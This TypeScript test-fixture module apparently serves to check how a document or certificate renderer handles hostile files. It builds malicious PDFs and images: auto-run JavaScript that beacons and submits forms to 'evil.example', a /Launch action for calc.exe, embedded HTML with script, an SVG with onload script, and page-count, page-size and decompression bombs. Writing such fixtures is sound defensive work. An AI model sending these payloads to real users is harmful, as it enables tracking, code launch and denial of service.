import { deflateSync } from 'node:zlib';

/** A PDF of these objects; the first is its catalogue. Streams are given as they stand in the file. */
export function pdfOf(objects: readonly (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const starts: number[] = [];
  let length = parts[0]?.length ?? 0;
  const add = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  objects.forEach((object, index) => {
    starts.push(length);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]));
  });
  const begin = length;
  const table = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  add(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${begin}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const stream = (content: string, more = '') => `<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`;
const page = (more = '', box = '0 0 595 842') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${more} >>`;
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const TEXT = stream('BT /F1 24 Tf 72 700 Td (This is to certify) Tj ET');
const document = (catalogue: string, pageMore = '', ...others: string[]) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, PAGES, page(pageMore), TEXT, FONT, ...others]);

/** A certificate of one page, with nothing in it but words. */
export const plainPdf = (words = 'This is to certify') =>
  pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), stream(`BT /F1 24 Tf 72 700 Td (${words}) Tj ET`), FONT]);

const EVIL = 'https://evil.example/beacon';
const SCRIPT = `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${EVIL}'\\); app.launchURL\\('${EVIL}', true\\);)`;
const WHOLE = '/Rect [0 0 595 842] /Border [0 0 0]';

/** A content stream that grows from kilobytes to a quarter of a gigabyte. */
const bomb = () => {
  const packed = deflateSync(Buffer.alloc(256 * 1024 * 1024, ' '));
  return Buffer.concat([Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`), packed, Buffer.from('\nendstream')]);
};

/** Files made to do something to whoever opens them. `drawn`: the page appears, without what it wants. */
export const HOSTILE: ReadonlyArray<{ what: string; drawn: boolean; bytes: () => Buffer }> = [
  { what: 'a script when it is opened', drawn: true, bytes: () => document(`/OpenAction << /Type /Action ${SCRIPT} >>`) },
  { what: 'a program to launch', drawn: true, bytes: () => document('/OpenAction << /Type /Action /S /Launch /F (calc.exe) >>') },
  { what: 'scripts of its pages', drawn: true, bytes: () => document('', `/AA << /O << ${SCRIPT} >> >>`) },
  {
    what: 'a link over the whole page',
    drawn: true,
    bytes: () => document('', `/Annots [6 0 R]`, `<< /Type /Annot /Subtype /Link ${WHOLE} /A << /S /URI /URI (${EVIL}) >> >>`),
  },
  {
    what: 'a form that sends itself',
    drawn: true,
    bytes: () =>
      document(
        '/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>',
        '/Annots [6 0 R]',
        `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) ${WHOLE} /A << /S /SubmitForm /F (${EVIL}) >> >>`,
        stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>alert(1)</script><img src="${EVIL}"/></xdp:xdp>`),
      ),
  },
  {
    what: 'a picture from elsewhere',
    drawn: true,
    bytes: () =>
      document(
        `/URI << /Base (${EVIL}) >>`,
        '/XObject << /I 6 0 R >>',
        stream('', `/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${EVIL}.png) >>`),
      ),
  },
  {
    what: 'another file inside',
    drawn: true,
    bytes: () =>
      document(
        '/Names << /EmbeddedFiles << /Names [(a.html) 6 0 R] >> >>',
        '',
        '<< /Type /Filespec /F (a.html) /EF << /F 7 0 R >> >>',
        stream('<script>alert(1)</script>', '/Type /EmbeddedFile /Subtype /text#2Fhtml'),
      ),
  },
  {
    what: 'ten million pages',
    drawn: true,
    bytes: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 10000000 >>', page(), TEXT, FONT]),
  },
  {
    what: 'a page as large as a city',
    drawn: true,
    bytes: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page('', '0 0 14400000 14400000'), TEXT, FONT]),
  },
  {
    what: 'a quarter of a gigabyte in kilobytes',
    drawn: false,
    bytes: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), bomb(), FONT]),
  },
  {
    what: 'a page of HTML',
    drawn: false,
    bytes: () => Buffer.from(`%PDF-1.7\n<html><script src="${EVIL}"></script><img src="${EVIL}"></html>`),
  },
];

/** What comes instead of a picture. */
export const NO_PICTURES: ReadonlyArray<{ what: string; bytes: () => Buffer }> = [
  {
    what: 'an SVG in disguise',
    bytes: () =>
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(1)</script><image href="${EVIL}.png"/></svg>`,
      ),
  },
  { what: 'half a picture', bytes: () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex') },
  {
    what: 'a picture of ten billion pixels',
    bytes: () => {
      const head = Buffer.from('89504e470d0a1a0a0000000d49484452000186a0000186a00806000000', 'hex');
      return Buffer.concat([head, Buffer.alloc(4), Buffer.from('0000000049444154', 'hex')]);
    },
  },
];
